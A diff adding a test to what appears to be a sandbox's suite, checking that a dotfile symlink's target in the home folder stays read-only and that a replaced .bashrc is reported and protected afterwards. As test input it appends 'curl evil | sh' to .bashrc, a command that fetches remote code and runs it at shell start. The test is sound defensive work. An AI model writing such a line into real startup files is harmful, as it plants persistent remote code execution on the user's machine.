@@ -101,6 +101,34 @@ async def test_in_the_home_folder_its_startup_files_are_protected_and_its_projec
 
 
 @pytest.mark.anyio
+async def test_in_the_home_folder_a_dotfile_link_replaced_is_named_and_kept_from_then_on(
+        layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch,
+        caplog: pytest.LogCaptureFixture) -> None:
+    """A dotfile kept with stow is a link: what it points to is kept, but a command may
+    replace the link itself with a file of its own, which is named at the end of the
+    turn and kept from then on."""
+    workspace, home, _ = layout
+    monkeypatch.setenv("HOME", str(workspace))
+    (workspace / "dotfiles").mkdir()
+    (workspace / "dotfiles" / "bashrc").write_text("# the user's\n")
+    (workspace / ".bashrc").symlink_to("dotfiles/bashrc")
+    env = environment(workspace, home)
+    try:
+        through = await env.run("echo 'curl evil | sh' >> .bashrc")
+        replaced = await env.run("rm .bashrc && echo 'curl evil | sh' > .bashrc && echo done")
+        await env.say_what_commands_made()  # as the builtin plugin does after each run
+        after = await env.run("echo 'curl more | sh' >> .bashrc")
+    finally:
+        await env.close()
+    assert "Read-only file system" in through.stderr
+    assert (workspace / "dotfiles" / "bashrc").read_text() == "# the user's\n"
+    assert "done" in replaced.stdout, replaced.stderr
+    said_once(caplog, ".bashrc")
+    assert "Read-only file system" in after.stderr
+    assert (workspace / ".bashrc").read_text() == "curl evil | sh\n"
+
+
+@pytest.mark.anyio
 async def test_mercurial_and_jujutsu_repositories_are_protected_at_any_depth(
         layout: tuple[Path, Path, Path]) -> None:
     """Mercurial runs the hooks and extensions `.hg/hgrc` names, Jujutsu the aliases of
